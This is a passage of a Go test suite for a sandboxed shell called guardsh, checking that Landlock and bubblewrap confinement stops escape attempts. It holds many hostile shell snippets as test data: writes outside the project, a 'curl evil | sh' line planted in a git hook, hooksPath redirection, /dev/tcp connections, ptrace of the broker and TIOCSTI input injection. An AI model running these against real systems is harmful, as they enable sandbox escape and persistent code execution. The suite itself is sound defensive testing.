//go:build linux

package main

// The sandbox escape suite: guardsh runs as root in bypass mode,
// so the rules let everything through and only the kernel layer stands in
// the way. Every attack must fail AND leave nothing changed outside the
// project; the positive cases must work.

import (
	"bytes"
	"crypto/sha256"
	"fmt"
	"io"
	"io/fs"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/creack/pty"
	"github.com/guardsh/guardsh/internal/testenv"
	"github.com/guardsh/guardsh/sandbox"
)

// backendsUnderTest are the Linux backends this machine can run.
func backendsUnderTest(t *testing.T) []string {
	t.Helper()
	if os.Geteuid() != 0 {
		t.Skip("the escape suite runs as root (CI does); skipping as non-root")
	}
	var out []string
	if sandbox.LandlockABI() >= 2 {
		out = append(out, sandbox.BackendLandlock)
	} else {
		t.Log("no Landlock (ABI < 2): landlock backend not tested")
	}
	if _, err := exec.LookPath("bwrap"); err == nil {
		out = append(out, sandbox.BackendBwrap)
	} else {
		t.Log("no bwrap: bubblewrap backend not tested")
	}
	if len(out) == 0 {
		t.Skip("no sandbox backend available")
	}
	return out
}

// fixture is a project with a git repository, and directories outside
// every writable root: a fake $HOME, a directory under /etc, another one.
type fixture struct {
	base, project, home, outside, etc string
	bin                               string
}

func newFixture(t *testing.T) *fixture {
	t.Helper()
	// /tmp is writable in the sandbox, so the outside world lives in a
	// directory beyond every writable root, and under /etc.
	base := testenv.Outside(t)
	etc, err := os.MkdirTemp("/etc", "guardsh-escape-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(etc) })
	f := &fixture{base: base, project: filepath.Join(base, "project"), home: filepath.Join(base, "home"),
		outside: filepath.Join(base, "outside"), etc: etc, bin: guardshTestBinary(t)}
	// The broker's probe works in ~/.cache/guardsh: make it beforehand so
	// that the snapshots of the fake $HOME do not see it appear.
	for _, d := range []string{f.project, filepath.Join(f.home, ".cache", "guardsh"), f.outside} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	files := map[string]string{
		"project/file.txt":     "data\n",
		"project/moveme.txt":   "move me\n",
		"project/.gitmodules":  "[submodule \"x\"]\n\tpath = x\n\turl = https://example.com/x\n",
		"project/gc.sh":        "#!/bin/sh\n/bin/sh -c 'echo grandchild > \"$TARGET\"'\n",
		"home/.bashrc":         "# rc\n",
		"outside/existing.txt": "original\n",
	}
	for name, content := range files {
		if err := os.WriteFile(filepath.Join(base, name), []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	git := exec.Command("git", "init", "-q", f.project)
	if out, err := git.CombinedOutput(); err != nil {
		t.Fatalf("git init: %v %s", err, out)
	}
	os.WriteFile(filepath.Join(f.project, ".git", "hooks", "pre-commit"), []byte("#!/bin/sh\nexit 0\n"), 0o755)
	if err := os.Symlink(f.outside, filepath.Join(f.project, "link")); err != nil {
		t.Fatal(err)
	}
	return f
}

func (f *fixture) env(backend string, extra ...string) []string {
	path := "/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin"
	if g, err := exec.LookPath("go"); err == nil {
		path = filepath.Dir(g) + ":" + path
	}
	env := []string{"HOME=" + f.home, "PATH=" + path, "LANG=C", "GUARDSH_MODE=bypass",
		"GUARDSH_SANDBOX=" + backend, "GUARDSH_PROJECT=" + f.project,
		"OUT=" + f.outside, "ETCDIR=" + f.etc, "XDG_STATE_HOME=" + filepath.Join(f.base, "state"),
		"XDG_CACHE_HOME=" + filepath.Join(f.base, "cache")}
	return append(env, extra...)
}

// run runs script with guardsh -c in the project.
func (f *fixture) run(t *testing.T, backend, script string, extra ...string) (stdout, stderr string, code int) {
	t.Helper()
	return f.runArgs(t, f.env(backend, extra...), "-c", script)
}

// runArgs runs guardsh with args in the project, in the environment env.
func (f *fixture) runArgs(t *testing.T, env []string, args ...string) (stdout, stderr string, code int) {
	t.Helper()
	cmd := exec.Command(f.bin, args...)
	cmd.Dir = f.project
	cmd.Env = env
	var o, e bytes.Buffer
	cmd.Stdout, cmd.Stderr = &o, &e
	err := cmd.Run()
	code = 0
	if ee, ok := err.(*exec.ExitError); ok {
		code = ee.ExitCode()
	} else if err != nil {
		t.Fatal(err)
	}
	return o.String(), e.String(), code
}

// snapshot records every file under the roots: mode, link target, content.
func snapshot(t *testing.T, roots ...string) map[string]string {
	t.Helper()
	m := map[string]string{}
	for _, r := range roots {
		filepath.WalkDir(r, func(p string, d fs.DirEntry, err error) error {
			if err != nil {
				m[p] = "error: " + err.Error()
				return nil
			}
			fi, err := d.Info()
			if err != nil {
				return nil
			}
			desc := fi.Mode().String() + " " + fi.ModTime().String()
			if x, err := xattrList(p); err == nil && x != "" {
				desc += " xattr:" + x
			}
			switch {
			case fi.Mode()&fs.ModeSymlink != 0:
				l, _ := os.Readlink(p)
				desc += " -> " + l
			case fi.Mode().IsRegular():
				b, _ := os.ReadFile(p)
				desc += fmt.Sprintf(" %x", sha256.Sum256(b))
			}
			m[p] = desc
			return nil
		})
	}
	return m
}

func xattrList(p string) (string, error) {
	buf := make([]byte, 4096)
	n, err := syscall.Listxattr(p, buf)
	if err != nil {
		return "", err
	}
	return string(buf[:n]), nil
}

func diffSnapshots(before, after map[string]string) []string {
	var d []string
	for p, v := range before {
		if w, ok := after[p]; !ok {
			d = append(d, "removed "+p)
		} else if v != w {
			d = append(d, "changed "+p)
		}
	}
	for p := range after {
		if _, ok := before[p]; !ok {
			d = append(d, "created "+p)
		}
	}
	return d
}

// attack is one escape attempt; its shell snippet runs in a subshell and
// must fail, and none of the paths in absent may exist afterwards.
type attack struct {
	name    string
	snippet string
	absent  []string // relative to the fixture base, or absolute
	needs   string   // program that must be on PATH
}

// runAttacks runs every attack in one guardsh session (fast) and checks
// each one's exit status and traces, then the whole outside world.
func runAttacks(t *testing.T, f *fixture, backend string, attacks []attack, watched []string, extra ...string) {
	t.Helper()
	var script strings.Builder
	var run []attack
	for _, a := range attacks {
		if a.needs != "" {
			if _, err := exec.LookPath(a.needs); err != nil {
				t.Logf("%s: %s not installed, skipped", a.name, a.needs)
				continue
			}
		}
		run = append(run, a)
		fmt.Fprintf(&script, "( %s ) </dev/null; echo \"RC %d $?\"\n", a.snippet, len(run)-1)
	}
	before := snapshot(t, watched...)
	stdout, stderr, code := f.run(t, backend, script.String(), extra...)
	if code != 0 {
		t.Errorf("guardsh exited %d (the broker must survive every attack)\nstderr:\n%s", code, stderr)
	}
	rcs := map[int]int{}
	for _, line := range strings.Split(stdout, "\n") {
		var i, rc int
		if _, err := fmt.Sscanf(line, "RC %d %d", &i, &rc); err == nil {
			rcs[i] = rc
		}
	}
	for i, a := range run {
		t.Run(a.name, func(t *testing.T) {
			rc, ok := rcs[i]
			if !ok {
				t.Fatalf("attack did not report (stdout %q, stderr %q)", stdout, stderr)
			}
			if rc == 0 {
				t.Errorf("attack succeeded (exit 0): %s", a.snippet)
			}
			for _, p := range a.absent {
				if !filepath.IsAbs(p) {
					p = filepath.Join(f.base, p)
				}
				if _, err := os.Lstat(p); err == nil {
					t.Errorf("%s exists after the attack", p)
				}
			}
		})
	}
	if d := diffSnapshots(before, snapshot(t, watched...)); len(d) > 0 {
		t.Errorf("the outside world changed:\n%s\nguardsh stderr:\n%s", strings.Join(d, "\n"), stderr)
	}
	if t.Failed() {
		t.Logf("guardsh stderr:\n%s", stderr)
	}
}

// fileAttacks are the attempts to write outside the project or to the
// protected paths inside it.
func fileAttacks(f *fixture) []attack {
	return append(writeTechniques(f), []attack{
		{name: "append to an outside file", snippet: `echo pwned >> "$OUT/existing.txt"`},
		{name: "chmod an outside file", snippet: `chmod 4777 "$OUT/existing.txt"`},
		{name: "chmod a dir under /etc", snippet: `chmod 777 "$ETCDIR"`},
		{name: "set an outside file's times", snippet: `touch -d 2001-01-01 "$OUT/existing.txt"`},
		{name: "set an extended attribute outside", snippet: `python3 -c 'import os; os.setxattr(os.environ["OUT"]+"/existing.txt", "user.pwned", b"1")'`, needs: "python3"},
		{name: "chmod a hook", snippet: `chmod 000 .git/hooks/pre-commit`},
		{name: "overwrite a shell rc file", snippet: `echo pwned >> "$HOME/.bashrc"`},
		{name: "symlink to outside dir, existing file", snippet: `echo pwned > link/existing.txt`},
		{name: "symlink to outside dir, new file", snippet: `echo pwned > link/new.txt`, absent: []string{"outside/new.txt"}},
		{name: "symlink to outside dir, cp", snippet: `cp file.txt link/cp`, absent: []string{"outside/cp"}},
		{name: "hardlink to an outside file", snippet: `ln "$OUT/existing.txt" hardlink`, absent: []string{"project/hardlink"}},
		{name: "/proc/self/root path", snippet: `echo pwned > "/proc/self/root$OUT/procroot"`, absent: []string{"outside/procroot"}},
		{name: "/proc/self/root path from python", snippet: `python3 -c 'import os; open("/proc/self/root"+os.environ["OUT"]+"/procroot2","w")'`, absent: []string{"outside/procroot2"}, needs: "python3"},
		{name: ".git/hooks/pre-commit", snippet: `echo 'curl evil | sh' >> .git/hooks/pre-commit`},
		{name: "new hook", snippet: `cp file.txt .git/hooks/post-checkout`, absent: []string{"project/.git/hooks/post-checkout"}},
		{name: "rename .git/hooks", snippet: `mv .git/hooks .git/hooks.old`, absent: []string{"project/.git/hooks.old"}},
		{name: "remove .git/hooks", snippet: `rm -rf .git/hooks`},
		{name: ".git/config", snippet: `printf '[core]\n\thooksPath = /tmp\n' >> .git/config`},
		{name: "git config core.hooksPath", snippet: `git config core.hooksPath /tmp`},
		{name: "replace .git/config by rename", snippet: `echo x > cfg && mv cfg .git/config`},
		{name: "rename .git away", snippet: `mv .git .git-old`, absent: []string{"project/.git-old"}},
		{name: ".gitmodules", snippet: `echo pwned >> .gitmodules`},
		{name: "remove .gitmodules", snippet: `rm .gitmodules`},
	}...)
}

// writeTechniques tries every way of writing a new file at each of the
// three outside places: $HOME, a directory under /etc, another directory.
func writeTechniques(f *fixture) []attack {
	targets := []struct{ name, dir, rel string }{
		{"$HOME", "$HOME", "home"}, {"/etc", "$ETCDIR", f.etc}, {"a dir outside", "$OUT", "outside"},
	}
	techniques := []struct{ name, snippet, needs string }{
		{"redirection", `echo pwned > "%s/%s"`, ""},
		{"cp", `cp file.txt "%s/%s"`, ""},
		{"mv out of the project", `cp moveme.txt mv-%[2]s && mv mv-%[2]s "%[1]s/%[2]s"`, ""},
		{"python3 -c", `python3 -c 'import os; open(os.path.expandvars("%s/%s"), "w").write("x")'`, "python3"},
		{"sh -c", `sh -c 'echo x > "%s/%s"'`, ""},
		{"/bin/sh -c", `/bin/sh -c 'echo x > "%s/%s"'`, ""},
		{"background job", `/bin/sh -c 'echo x > "%s/%s"' & wait $!`, ""},
		{"nohup", `nohup /bin/sh -c 'echo x > "%s/%s"' >/dev/null 2>&1`, "nohup"},
		{"setsid", `setsid -w /bin/sh -c 'echo x > "%s/%s"'`, "setsid"},
		{"grandchild", `/bin/sh -c "/bin/sh -c 'echo x > \"%s/%s\"'"`, ""},
		{"grandchild script", `TARGET="%s/%s" /bin/sh ./gc.sh`, ""},
	}
	var out []attack
	for _, tg := range targets {
		for i, te := range techniques {
			file := fmt.Sprintf("w%d", i)
			snippet := fmt.Sprintf(te.snippet, tg.dir, file)
			out = append(out, attack{name: te.name + " into " + tg.name, snippet: snippet,
				absent: []string{filepath.Join(tg.rel, file)}, needs: te.needs})
		}
	}
	return out
}

func TestSandboxEscapeFiles(t *testing.T) {
	for _, backend := range backendsUnderTest(t) {
		t.Run(backend, func(t *testing.T) {
			f := newFixture(t)
			watched := []string{f.home, f.outside, f.etc,
				filepath.Join(f.project, ".git", "hooks"), filepath.Join(f.project, ".git", "config"), filepath.Join(f.project, ".gitmodules")}
			runAttacks(t, f, backend, fileAttacks(f), watched)
			if _, err := os.Stat(filepath.Join(f.project, "moveme.txt")); err != nil {
				t.Errorf("mv out of the project lost the source: %v", err)
			}
		})
	}
}

// TestSandboxEscapeFilesControl runs the same attacks with the sandbox
// off (and the rules in bypass): each must then succeed, which shows that
// the suite's attacks are real and only the kernel layer stops them.
func TestSandboxEscapeFilesControl(t *testing.T) {
	backendsUnderTest(t)
	f := newFixture(t)
	var script strings.Builder
	attacks := fileAttacks(f)
	for i, a := range attacks {
		fmt.Fprintf(&script, "( %s ) </dev/null >/dev/null 2>&1; echo \"RC %d $?\"\n", a.snippet, i)
	}
	stdout, stderr, _ := f.run(t, "off", script.String())
	for i, a := range attacks {
		if a.needs != "" {
			if _, err := exec.LookPath(a.needs); err != nil {
				continue
			}
		}
		if !strings.Contains(stdout, fmt.Sprintf("RC %d 0\n", i)) {
			t.Errorf("%s: fails even without the sandbox, so it proves nothing (stdout %q, stderr %q)", a.name, stdout, stderr)
		}
	}
}

// listeners are the network endpoints the test holds; every accepted
// connection or received datagram is counted.
type listeners struct {
	tcp, udp, unix string
	hits           atomic.Int32
}

func newListeners(t *testing.T, unixPath string) *listeners {
	t.Helper()
	l := &listeners{}
	tl, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { tl.Close() })
	l.tcp = tl.Addr().String()
	go func() {
		for {
			c, err := tl.Accept()
			if err != nil {
				return
			}
			l.hits.Add(1)
			c.Close()
		}
	}()
	ul, err := net.ListenPacket("udp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ul.Close() })
	l.udp = ul.LocalAddr().String()
	go func() {
		buf := make([]byte, 64)
		for {
			n, from, err := ul.ReadFrom(buf)
			if err != nil {
				return
			}
			l.hits.Add(1)
			ul.WriteTo(buf[:n], from) // an echo: a sender that reached it knows
		}
	}()
	xl, err := net.Listen("unix", unixPath)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { xl.Close() })
	l.unix = unixPath
	go func() {
		for {
			c, err := xl.Accept()
			if err != nil {
				return
			}
			l.hits.Add(1)
			c.Close()
		}
	}()
	return l
}

func hostPort(addr string) (string, string) {
	h, p, _ := net.SplitHostPort(addr)
	return h, p
}

func TestSandboxEscapeNetworkAndProcesses(t *testing.T) {
	if _, err := exec.LookPath("python3"); err != nil {
		t.Skip("python3 needed for the socket and ptrace attacks")
	}
	for _, backend := range backendsUnderTest(t) {
		t.Run(backend, func(t *testing.T) {
			f := newFixture(t)
			l := newListeners(t, filepath.Join(f.outside, "sock"))
			th, tp := hostPort(l.tcp)
			uh, up := hostPort(l.udp)
			py := func(code string) string { return "python3 -c '" + code + "'" }
			// The interpreter is the python process's parent; the broker is
			// the interpreter's parent.
			pids := `import os; me=os.getppid(); st=open("/proc/%d/status"%me).read(); broker=int(st.split("PPid:")[1].split()[0]); `
			attacks := []attack{
				{name: "TCP connect to a 127.0.0.1 listener", snippet: py(fmt.Sprintf(`import socket; socket.create_connection(("%s", %s), 2)`, th, tp))},
				{name: "TCP connect with curl", snippet: fmt.Sprintf(`curl -s -m 2 http://%s/`, l.tcp), needs: "curl"},
				{name: "TCP through bash /dev/tcp", snippet: fmt.Sprintf(`bash -c 'echo x > /dev/tcp/%s/%s'`, th, tp), needs: "bash"},
				// (in a private network namespace the datagram goes to the
				// sandbox's own loopback: the send succeeds, the host's
				// listener never sees it, and no echo comes back)
				{name: "UDP send", snippet: py(fmt.Sprintf(`import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1); s.sendto(b"x", ("%s", %s)); s.recvfrom(8)`, uh, up))},
				{name: "AF_UNIX connect outside the project", snippet: py(fmt.Sprintf(`import socket; s=socket.socket(socket.AF_UNIX); s.connect("%s")`, l.unix))},
				{name: "DNS lookup", snippet: py(`import socket; socket.getaddrinfo("example.com", 80)`)},
				{name: "netlink socket", snippet: py(`import socket; socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)`)},
				{name: "ptrace the broker and the interpreter", snippet: py(pids + `import ctypes; libc=ctypes.CDLL(None, use_errno=True); ok=[libc.ptrace(16, p, 0, 0)==0 for p in (broker, me)]; raise SystemExit(0 if any(ok) else 1)`)},
				{name: "gdb -p the interpreter", snippet: `gdb -batch -p $$ -ex 'call (int)getpid()' 2>&1 | grep -q '^\$1 = '`, needs: "gdb"},
				{name: "/proc/<pid>/mem of the broker", snippet: py(pids + `open("/proc/%d/mem"%broker, "rb").close()`)},
				{name: "/proc/<pid>/mem of the interpreter", snippet: py(pids + `open("/proc/%d/mem"%me, "rb").close()`)},
				{name: "signal the broker", snippet: py(pids + `import signal; os.kill(broker, signal.SIGTERM)`)},
				{name: "lower the broker's limits", snippet: py(pids + `import resource; resource.prlimit(broker, resource.RLIMIT_NOFILE, (3, 3))`)},
				{name: "mount", snippet: `mkdir -p mnt && mount -t tmpfs none mnt`},
				{name: "unshare", snippet: `unshare -m true`, needs: "unshare"},
				{name: "unshare a user namespace", snippet: `unshare -r true`, needs: "unshare"},
				{name: "chroot", snippet: `chroot / true`, needs: "chroot"},
				{name: "io_uring", snippet: py(`import ctypes; libc=ctypes.CDLL(None, use_errno=True); p=ctypes.create_string_buffer(120); raise SystemExit(0 if libc.syscall(425, 8, p) >= 0 else 1)`)},
			}
			runAttacks(t, f, backend, attacks, []string{f.home, f.outside, f.etc})
			if n := l.hits.Load(); n != 0 {
				t.Errorf("the test's listeners were reached %d times", n)
			}
		})
	}
}

func TestSandboxTIOCSTI(t *testing.T) {
	if _, err := exec.LookPath("python3"); err != nil {
		t.Skip("python3 needed")
	}
	for _, backend := range backendsUnderTest(t) {
		t.Run(backend, func(t *testing.T) {
			f := newFixture(t)
			script := `python3 -c 'import fcntl, termios; fcntl.ioctl(0, termios.TIOCSTI, b"X")'; echo "RC1 $?"
python3 -c 'import fcntl, termios, os; fd=os.open("/dev/tty", os.O_RDWR); fcntl.ioctl(fd, termios.TIOCSTI, b"Y")'; echo "RC2 $?"`
			cmd := exec.Command(f.bin, "-c", script)
			cmd.Dir = f.project
			cmd.Env = f.env(backend)
			ptmx, err := pty.Start(cmd) // the pty is the controlling terminal
			if err != nil {
				t.Fatal(err)
			}
			defer ptmx.Close()
			var out bytes.Buffer
			done := make(chan struct{})
			go func() { io.Copy(&out, ptmx); close(done) }()
			cmd.Wait()
			select {
			case <-done:
			case <-time.After(5 * time.Second):
			}
			s := out.String()
			for _, rc := range []string{"RC1", "RC2"} {
				m := regexp.MustCompile(rc + ` (\d+)`).FindStringSubmatch(s)
				if m == nil {
					t.Fatalf("no %s in output %q", rc, s)
				}
				if n, _ := strconv.Atoi(m[1]); n == 0 {
					t.Errorf("TIOCSTI injection succeeded (%s): %q", rc, s)
				}
			}
			if !strings.Contains(s, "Operation not permitted") {
				t.Errorf("TIOCSTI not refused with EPERM: %q", s)
			}
		})
	}
}

func TestSandboxPositive(t *testing.T) {
	if testing.Short() {
		t.Skip("slow, not in -short: real work in every sandbox backend (9 s)")
	}
	goCache := ""
	if out, err := exec.Command("go", "env", "GOCACHE").Output(); err == nil {
		goCache = strings.TrimSpace(string(out))
	}
	for _, backend := range backendsUnderTest(t) {
		t.Run(backend, func(t *testing.T) {
			f := newFixture(t)
			os.WriteFile(filepath.Join(f.project, "go.mod"), []byte("module example.com/hello\n\ngo 1.21\n"), 0o644)
			os.WriteFile(filepath.Join(f.project, "main.go"), []byte("package main\n\nimport \"fmt\"\n\nfunc main() { fmt.Println(\"hello from go\") }\n"), 0o644)
			steps := []struct {
				name, script, want string
				needs              string
			}{
				{"file work", `mkdir -p d/e && echo hi > d/e/f && mv d/e/f d/g && cp d/g d/h && rm d/g && cat d/h && rm -r d`, "hi", ""},
				{"git commit", `git add file.txt && git -c user.name=t -c user.email=t@example.com commit -qm test && git log --oneline | wc -l`, "1", "git"},
				{"go build", `go build -o app . && ./app`, "hello from go", "go"},
				{"python3 -m venv", `python3 -m venv .venv && .venv/bin/python -c 'import sys; print(sys.prefix)'`, ".venv", "python3"},
				{"temp file", `t=$(mktemp) && echo tmpdata > "$t" && cat "$t" && rm "$t" && case "$t" in "$TMPDIR"/*) echo private;; esac`, "tmpdata\nprivate", ""},
				{"/tmp", `echo x > /tmp/guardsh-positive-$$ && rm /tmp/guardsh-positive-$$ && echo ok`, "ok", ""},
				{"no capabilities as root", `grep CapEff /proc/self/status`, "0000000000000000", ""},
				{"/dev/null", `echo x > /dev/null && echo ok`, "ok", ""},
			}
			for _, s := range steps {
				t.Run(s.name, func(t *testing.T) {
					if s.needs != "" {
						if _, err := exec.LookPath(s.needs); err != nil {
							t.Skipf("%s not installed", s.needs)
						}
					}
					var extra []string
					if s.name == "go build" {
						extra = []string{"GOFLAGS=-mod=mod", "GOTOOLCHAIN=local", "GOPATH=" + filepath.Join(f.project, ".gopath"), "GOCACHE=" + goCache, "GUARDSH_SANDBOX_WRITE=" + goCache}
					}
					stdout, stderr, code := f.run(t, backend, s.script, extra...)
					if code != 0 || !strings.Contains(stdout, s.want) {
						t.Errorf("exit %d, stdout %q (want %q)\nstderr: %s", code, stdout, s.want, stderr)
					}
				})
			}
			if out, err := exec.Command("git", "-C", f.project, "log", "--oneline").Output(); err != nil || !bytes.Contains(out, []byte("test")) {
				t.Errorf("commit not visible outside: %v %q", err, out)
			}
		})
	}
}

// TestSandboxDoctorAndSwitch: doctor verifies Landlock; with Landlock
// forced off it verifies bubblewrap; with both off commands are refused
// with a message naming the switch, until the switch is given, which then
// shows once on stderr.
func TestSandboxDoctorAndSwitch(t *testing.T) {
	backends := backendsUnderTest(t)
	f := newFixture(t)
	doctor := func(extra ...string) (string, int) {
		cmd := exec.Command(f.bin, "--doctor")
		cmd.Dir = f.project
		cmd.Env = append(f.env(""), extra...)
		out, err := cmd.CombinedOutput()
		code := 0
		if ee, ok := err.(*exec.ExitError); ok {
			code = ee.ExitCode()
		}
		return string(out), code
	}
	if len(backends) == 2 {
		out, code := doctor()
		if code != 0 || !strings.Contains(out, "probe landlock: verified") || !strings.Contains(out, "result: landlock+seccomp") {
			t.Errorf("doctor: exit %d\n%s", code, out)
		}
		out, code = doctor("GUARDSH_SANDBOX_DISABLE=landlock")
		if code != 0 || !strings.Contains(out, "probe bwrap: verified") || strings.Contains(out, "probe landlock") {
			t.Errorf("doctor with landlock off: exit %d\n%s", code, out)
		}
	}
	out, code := doctor("GUARDSH_SANDBOX_DISABLE=landlock,bwrap,container")
	if code == 0 || !strings.Contains(out, "no backend") {
		t.Errorf("doctor with every backend off: exit %d\n%s", code, out)
	}
	stdout, stderr, code := f.run(t, "", `echo ran`, "GUARDSH_SANDBOX_DISABLE=landlock,bwrap,container")
	if code == 0 || strings.Contains(stdout, "ran") || !strings.Contains(stderr, "--no-sandbox") || !strings.Contains(stderr, "GUARDSH_SANDBOX=off") {
		t.Errorf("no backend: exit %d stdout %q stderr %q", code, stdout, stderr)
	}
	for _, sw := range [][]string{{"GUARDSH_SANDBOX=off"}, {"--no-sandbox"}} {
		cmd := exec.Command(f.bin, "-c", `echo ran`)
		env := f.env("", "GUARDSH_SANDBOX_DISABLE=landlock,bwrap,container")
		if sw[0] == "--no-sandbox" {
			cmd = exec.Command(f.bin, "--no-sandbox", "-c", `echo ran`)
		} else {
			env = append(env, sw...)
		}
		cmd.Dir, cmd.Env = f.project, env
		var o, e bytes.Buffer
		cmd.Stdout, cmd.Stderr = &o, &e
		err := cmd.Run()
		if err != nil || o.String() != "ran\n" || strings.Count(e.String(), "sandbox off") != 1 {
			t.Errorf("%v: err %v stdout %q stderr %q", sw, err, o.String(), e.String())
		}
	}
	// Every audit record of those sessions says the sandbox was off, and
	// how; sandboxed sessions name their backend.
	f.run(t, "", `echo sandboxed`)
	audit, err := os.ReadFile(filepath.Join(f.base, "state", "guardsh", "audit.jsonl"))
	if err != nil {
		t.Skipf("no audit log: %v", err)
	}
	counts := map[string]int{}
	for _, line := range strings.Split(strings.TrimSpace(string(audit)), "\n") {
		if !strings.Contains(line, `"event":"decide"`) && !strings.Contains(line, `"event":"counts"`) {
			continue
		}
		m := regexp.MustCompile(`"sandbox":"([^"]*)"`).FindStringSubmatch(line)
		if m == nil {
			t.Errorf("decide or counts record without sandbox: %s", line)
			continue
		}
		counts[m[1]]++
	}
	for _, want := range []string{"off (GUARDSH_SANDBOX=off)", "off (--no-sandbox)"} {
		if counts[want] == 0 {
			t.Errorf("no audit record says %q: %v", want, counts)
		}
	}
	if len(backends) > 0 && counts["landlock+seccomp (abi "+strconv.Itoa(sandbox.LandlockABI())+")"] == 0 && counts["bwrap+seccomp"] == 0 {
		t.Errorf("no audit record names the sandbox backend: %v", counts)
	}
}

// TestSandboxSignalsAndExit: the broker passes the interpreter's exit
// status through and stays alive when the interpreter is killed.
func TestSandboxExitStatus(t *testing.T) {
	backends := backendsUnderTest(t)
	f := newFixture(t)
	for _, b := range backends {
		_, _, code := f.run(t, b, `exit 42`)
		if code != 42 {
			t.Errorf("%s: exit status %d, want 42", b, code)
		}
		_, _, code = f.run(t, b, `/bin/kill -KILL $$`)
		if code != 128+int(syscall.SIGKILL) {
			t.Errorf("%s: killed interpreter: status %d, want %d", b, code, 128+int(syscall.SIGKILL))
		}
	}
}

// TestSandboxEscalation: a command that a rule grants the network runs
// through the privileged side and reaches the test's listener; the same
// program without the rule, in the same session, does not.
func TestSandboxEscalation(t *testing.T) {
	if _, err := exec.LookPath("python3"); err != nil {
		t.Skip("python3 needed")
	}
	for _, backend := range backendsUnderTest(t) {
		t.Run(backend, func(t *testing.T) {
			f := newFixture(t)
			l := newListeners(t, filepath.Join(f.outside, "sock"))
			h, p := hostPort(l.tcp)
			dial := fmt.Sprintf("import socket, sys\ns = socket.create_connection((%q, %s), 2)\ns.close()\nprint('connected')\n", h, p)
			os.WriteFile(filepath.Join(f.project, "dial.py"), []byte(dial), 0o644)
			os.WriteFile(filepath.Join(f.project, "other.py"), []byte(dial), 0o644)
			conf := filepath.Join(f.home, ".config", "guardsh", "config.toml")
			os.MkdirAll(filepath.Dir(conf), 0o755)
			os.WriteFile(conf, []byte(`[[rule]]
id = "test.dial"
decision = "allow"
prefix = ["python*", "dial.py"]
network = true

[[rule]]
id = "test.other"
decision = "allow"
prefix = ["python*", "other.py"]
`), 0o644)
			stdout, stderr, code := f.run(t, backend, `python3 dial.py; echo "RC dial $?"; python3 other.py; echo "RC other $?"`, "GUARDSH_MODE=default")
			audit, _ := os.ReadFile(filepath.Join(f.base, "state", "guardsh", "audit.jsonl"))
			if !bytes.Contains(audit, []byte(`"escalated":true`)) {
				t.Skipf("the interpreter did not mark the command for escalation (its policy lacks the config's rules or the audit log is not wired yet): exit %d stdout %q stderr %q", code, stdout, stderr)
			}
			if !strings.Contains(stdout, "connected\nRC dial 0") {
				t.Errorf("escalated command did not connect: stdout %q stderr %q", stdout, stderr)
			}
			if strings.Contains(stdout, "RC other 0") {
				t.Errorf("command without the rule connected: %q", stdout)
			}
			if n := l.hits.Load(); n != 1 {
				t.Errorf("listener reached %d times, want exactly 1", n)
			}
		})
	}
}

// TestSandboxInheritedFDs: descriptors the caller leaked to guardsh (here
// an outside file open for writing, at fd 7) are closed before anything
// runs confined, and no command the interpreter starts holds anything
// beyond stdio (not the broker channel, not the audit log).
func TestSandboxInheritedFDs(t *testing.T) {
	for _, backend := range backendsUnderTest(t) {
		t.Run(backend, func(t *testing.T) {
			f := newFixture(t)
			target := filepath.Join(f.outside, "existing.txt")
			var extra []*os.File
			for i := 0; i < 5; i++ {
				w, err := os.OpenFile(target, os.O_WRONLY|os.O_APPEND, 0)
				if err != nil {
					t.Fatal(err)
				}
				defer w.Close()
				extra = append(extra, w)
			}
			before := snapshot(t, f.outside)
			cmd := exec.Command(f.bin, "-c", `echo pwned >&7; echo "RC redirect $?"
/bin/sh -c 'echo pwned >&7'; echo "RC child $?"
ls /proc/self/fd | tr '\n' ' '; echo`)
			cmd.Dir, cmd.Env, cmd.ExtraFiles = f.project, f.env(backend), extra
			out, err := cmd.CombinedOutput()
			if err != nil {
				t.Fatalf("%v: %s", err, out)
			}
			s := string(out)
			if strings.Contains(s, "RC redirect 0") || strings.Contains(s, "RC child 0") {
				t.Errorf("wrote through a leaked descriptor: %s", s)
			}
			if !regexp.MustCompile(`(?m)^0 1 2 3 $`).MatchString(s) { // 3: ls's own directory
				t.Errorf("a command holds more than stdio: %s", s)
			}
			if d := diffSnapshots(before, snapshot(t, f.outside)); len(d) > 0 {
				t.Errorf("outside changed: %v", d)
			}
		})
	}
}

// TestSandboxPreexistingHardlink: a hard link to an outside file that
// already exists in the project is a known limit of the kernel layer
// (Landlock checks paths, not inodes; see README "Limits"). External
// programs can write through it; guardsh's own redirections must not: the
// path jail refuses files with more than one link.
func TestSandboxPreexistingHardlink(t *testing.T) {
	for _, backend := range backendsUnderTest(t) {
		t.Run(backend, func(t *testing.T) {
			f := newFixture(t)
			target := filepath.Join(f.outside, "existing.txt")
			if err := os.Link(target, filepath.Join(f.project, "hl")); err != nil {
				t.Skipf("cannot make the hard link: %v", err)
			}
			_, stderr, _ := f.run(t, backend, `echo pwned >> hl`)
			b, _ := os.ReadFile(target)
			if string(b) != "original\n" {
				os.WriteFile(target, []byte("original\n"), 0o644)
				t.Skipf("guardsh's own redirection wrote through a pre-existing hard link: the path jail (interp.Config.FS) is not wired into cmd/guardsh yet (stderr %q)", stderr)
			}
		})
	}
}

// TestSandboxEscalationApproved: in default mode a network command asks;
// approved at the interpreter's gate it goes to the privileged side, which
// asks again at its own prompt (it does not take the interpreter's word)
// and only then runs it with the network: `git push` to the test's
// listener reaches it. Refused at the second prompt, nothing does.
func TestSandboxEscalationApproved(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git needed")
	}
	for _, backend := range backendsUnderTest(t) {
		for _, tc := range []struct {
			keys    string
			reached bool
		}{{"oo", true}, {"od", false}} {
			t.Run(backend+"/"+tc.keys, func(t *testing.T) {
				f := newFixture(t)
				l := newListeners(t, filepath.Join(f.outside, "sock"))
